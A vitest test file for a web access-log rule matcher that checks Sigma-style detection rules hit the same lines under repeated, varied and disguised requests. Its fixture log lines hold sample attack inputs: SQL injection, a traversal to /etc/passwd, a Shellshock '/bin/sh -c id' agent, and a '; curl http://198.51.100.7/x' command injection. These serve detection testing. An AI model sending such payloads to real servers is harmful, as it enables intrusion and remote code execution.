import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { seededRandom } from '../../vocabulary/random.ts';
import { readShared } from '../engine/shared-engine.test-support.ts';
import type { LogStore } from '../port.ts';
import { type CompiledRules, loadRules } from './load-rules.ts';
import { matchRules } from './match-rules.ts';
import { preparedWeb } from './web-text.ts';

/** Requests of every kind that is treated apart: plain, with syntax, disguised, held by their agent or referer alone. */
const requests = [
  '"GET / HTTP/1.1" 200 512 "-" "Mozilla/5.0"',
  '"GET /img/logo.png HTTP/1.1" 200 2048 "https://example.com/" "Mozilla/5.0"',
  '"GET /search?q=red+shoes HTTP/1.1" 200 900 "-" "Mozilla/5.0"',
  '"GET /%E6%96%B0%E7%9D%80 HTTP/1.1" 200 900 "-" "Mozilla/5.0"',
  '"GET /list?id=1%20union%20select%20password%20from%20users HTTP/1.1" 200 77 "-" "Mozilla/5.0"',
  '"GET /list?id=1\'or\'1\'=\'1 HTTP/1.1" 500 77 "-" "Mozilla/5.0"',
  '"GET /../../../etc/passwd HTTP/1.1" 404 10 "-" "Mozilla/5.0"',
  '"GET /images/x.php HTTP/1.1" 404 10 "-" "Mozilla/5.0"',
  '"GET /page.php HTTP/1.1" 200 10 "-" "Mozilla/5.0"',
  '"GET / HTTP/1.1" 200 512 "-" "sqlmap/1.7"',
  '"GET / HTTP/1.1" 200 512 "() { :; }; /bin/sh -c id" "Mozilla/5.0"',
  '"GET / HTTP/1.1" 200 512 "-" "; curl http://198.51.100.7/x"',
  '"TRACE / HTTP/1.1" 405 0 "-" "Mozilla/5.0"',
];

/** Rules that ask for more than the request: who asked, and for how many bytes. */
const beyond = (detection: string, id: string, condition = 'selection') => `title: Beyond the request
id: ${id}
status: test
description: For this test.
author: Akashi project
date: 2026-11-28
logsource:
    category: webserver
detection:
${detection}
    condition: ${condition}
level: low
`;

let folder: string;
let rules: CompiledRules;
const stores: LogStore[] = [];

async function read(lines: readonly string[]): Promise<LogStore> {
  const path = join(folder, `access-${stores.length}.log`);
  writeFileSync(path, `${lines.join('\n')}\n`);
  const { store } = await readShared([{ path, shown: 'access.log' }]);
  stores.push(store);
  return store;
}

async function rulesByLine(store: LogStore): Promise<Map<number, string>> {
  const found = new Map<number, string>();
  await matchRules<object>(store, rules.rules, 'web', 'client', (hits) => {
    for (const { n, rules: held } of hits) found.set(n, [...held].sort((a, b) => a - b).join(' '));
  });
  return found;
}

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'akashi-match-'));
  const own = join(folder, 'rules');
  rmSync(own, { recursive: true, force: true });
  writeFileSync(
    join(folder, 'client.yml'),
    beyond('    selection:\n        c-ip: 192.0.2.3\n        cs-method: GET', 'b6b1b1c4-6c2e-4d0e-9a35-0a3d0b2f7f01'),
  );
  writeFileSync(
    join(folder, 'size.yml'),
    beyond(
      '    selection:\n        sc-bytes|gte: 2000\n        cs-uri-stem|contains: logo',
      'b6b1b1c4-6c2e-4d0e-9a35-0a3d0b2f7f02',
    ),
  );
  for (const [i, test] of [
    'c-ip: 192.0.2.2',
    'c-ip|startswith: 192.0.2.',
    'c-ip|cidr: 192.0.2.0/31',
    'sc-bytes: 900',
    'sc-bytes|gte: 2000',
  ].entries()) {
    writeFileSync(
      join(folder, `alone-${i}.yml`),
      beyond(`    selection:\n        ${test}`, `b6b1b1c4-6c2e-4d0e-9a35-0a3d0b2f7f1${i}`),
    );
  }
  rules = loadRules([folder]);
  expect(rules.refused).toEqual([]);
});
afterAll(async () => {
  for (const store of stores) await store.close();
  rmSync(folder, { recursive: true, force: true });
});

const line = (client: number, at: number, request: string) => {
  const time = new Date(Date.UTC(2026, 0, 1) + at * 1000).toISOString();
  return `192.0.2.${client} - - [01/Jan/2026:${time.slice(11, 19)} +0000] ${request}`;
};

// Repeated requests are looked at once and their answer given to all: each line must still get what it gets alone.
it('gives every line of a log that repeats its requests the rules that it gets where nothing is repeated', {
  timeout: 180_000,
}, async () => {
  const alone = await rulesByLine(
    await read(requests.flatMap((request) => [1, 2, 3].map((client) => line(client, 0, request)))),
  );
  expect([...new Set(alone.values())].length).toBeGreaterThan(6);
  const random = seededRandom(1, 'repeated requests');
  const chosen = Array.from({ length: 60_000 }, () => ({
    request: random.below(requests.length),
    client: 1 + random.below(3),
  }));
  const store = await read(chosen.map(({ request, client }, i) => line(client, i, requests[request] ?? '')));
  const repeated = await rulesByLine(store);
  const wrong = chosen.flatMap(({ request, client }, n) => {
    const want = alone.get(request * 3 + client - 1);
    return repeated.get(n) === want ? [] : [{ n, want, got: repeated.get(n) }];
  });
  expect(wrong.slice(0, 3)).toEqual([]);
});

// More different candidates than are listed: these are tried in pages, after a look at what rules require together.
it('gives every line of a log without repeated requests the rules that it gets alone', {
  timeout: 120_000,
}, async () => {
  const kinds = ['/img/a.png?', '/images/x.php?', "/list?id=1'or'1'='1&", '/list?id=1%20union%20select%20password&'];
  const request = (kind: number, i: number) => `"GET ${kinds[kind]}u=${i} HTTP/1.1" 200 900 "-" "Mozilla/5.0"`;
  const alone = await rulesByLine(await read(kinds.map((_, kind) => line(1, 0, request(kind, 0)))));
  expect([...alone.keys()].length).toBeGreaterThan(2);
  const random = seededRandom(2, 'different requests');
  const chosen = Array.from({ length: 110_000 }, () => random.below(kinds.length));
  const different = await rulesByLine(await read(chosen.map((kind, i) => line(1, i, request(kind, i)))));
  const wrong = chosen.flatMap((kind, n) => {
    const [want, got] = [alone.get(kind), different.get(n)];
    return got === want ? [] : [{ n, kind, want, got }];
  });
  expect(wrong.slice(0, 3)).toEqual([]);
});

// More lines than a call may have arguments, and more user agents than a list may name.
it('answers for every line of a scanner that gives itself another name each time', { timeout: 120_000 }, async () => {
  const lines = Array.from({ length: 130_000 }, (_, i) =>
    line(1, i % 86_400, `"GET /p${i} HTTP/1.1" 404 7 "-" "sqlmap/1.${i} (https://sqlmap.org)"`),
  );
  const found = await rulesByLine(await read(lines));
  expect(found.size).toBe(lines.length);
  expect(new Set(found.values()).size).toBe(1);
});

/** Rules that ask for the user agent in every way that is told apart, and rules that tell nothing to search for. */
const ofAgents = [
  { name: 'agent alone', a: 'cs-user-agent: Mozilla/5.0', condition: 'a' },
  {
    name: 'agent and path',
    a: 'cs-user-agent|contains: mozilla',
    b: 'cs-uri-stem|contains: /img/',
    condition: 'a and b',
  },
  { name: 'agent or path', a: 'cs-user-agent|contains: sqlmap', b: 'cs-uri-stem|contains: /img/', condition: 'a or b' },
  { name: 'no agent', a: 'cs-user-agent: ""', condition: 'a' },
  { name: 'agent absent', a: 'cs-user-agent: null', condition: 'a' },
  { name: 'not this', a: 'cs-uri-stem|contains: /img/', b: 'cs-user-agent|startswith: Moz', condition: 'a and not b' },
  { name: 'agent and words', a: 'cs-user-agent|contains: map', b: '"|all": [sqlm]', condition: 'a and b' },
  { name: 'words alone', a: '"|all": [ZGRAB]', condition: 'a' },
  { name: 'agent and size', a: 'cs-user-agent|contains: zgrab', b: 'sc-bytes|gte: 500', condition: 'a and b' },
  { name: 'agent by expression', a: 'cs-user-agent|re: "^sq[a-z]+/"', condition: 'a' },
  { name: 'nothing to search for', a: 'cs-uri-stem|endswith: g', condition: 'a' },
  { name: 'ending of a file', a: 'c-uri-extension: ws', condition: 'a' },
];

// What is looked at, and in which order, is only for speed.
it('finds by its looks at texts and agents exactly what asking every rule of every line finds', {
  timeout: 180_000,
}, async () => {
  const own = join(folder, 'agents');
  mkdirSync(own);
  for (const [i, { a, b, condition }] of ofAgents.entries()) {
    const detection = `    a:\n        ${a}\n    b:\n        ${b ?? 'cs-method: GET'}`;
    const rule = beyond(detection, `b6b1b1c4-6c2e-4d0e-9a35-0a3d0b2f8f${10 + i}`, condition);
    writeFileSync(join(own, `${10 + i}.yml`), rule);
  }
  const compiled = loadRules([own], false);
  expect(compiled.refused).toEqual([]);
  const random = seededRandom(3, 'agents');
  const agents = ['Mozilla/5.0', 'mozilla/5.0 (X11)', 'sqlmap/1.7', '-', 'zgrab/0.x', 'a  b', 'SQLMAP%2f1', 'x'];
  const targets = ['/', '/img/a.png', '/%69mg/a', '/a.ws', '/a.ws?x', '/a.svg', '/b?q=zgrab', '/?q=%7agrab', '/?u='];
  // Few lines, and more different candidates than are listed.
  for (const lines of [300, 60_000]) {
    const text = Array.from({ length: lines }, (_, i) => {
      const target = i >= 300 ? `/n${i}/img/` : targets[random.below(targets.length)];
      // Of many lines the later ones, which are no candidates by their target alone, carry no disguise.
      const agent = agents[random.below(i >= 300 ? 5 : agents.length)];
      return line(1, i % 86_400, `"GET ${target} HTTP/1.1" 200 ${random.below(2) * 900} "-" "${agent}"`);
    });
    const store = await read(text);
    const found: { n: number; held: number[] }[] = [];
    await matchRules<object>(store, compiled.rules, 'web', 'client', (hits) => {
      for (const { n, rules: held } of hits) found.push({ n, held: [...held].sort((a, b) => a - b) });
    });
    const answers = compiled.rules.map(({ where }) => `toUInt8(${where})`).join(', ');
    const held = `arrayFilter((i, hit) -> hit, range(${compiled.rules.length}), [${answers}])`;
    const asked = (where: string, stages: 'decoded' | 'raw') =>
      store.rows<{ n: number; held: number[] }>(
        `select n, ${held} as held from (${preparedWeb(where, '1', stages)}) where notEmpty(held) order by n`,
      );
    const want = [...(await asked('n < 300', 'decoded')), ...(await asked('n >= 300', 'raw'))];
    expect(new Set(want.flatMap((row) => row.held)).size).toBe(ofAgents.length);
    expect(found.sort((a, b) => a.n - b.n)).toEqual(want);
  }
});
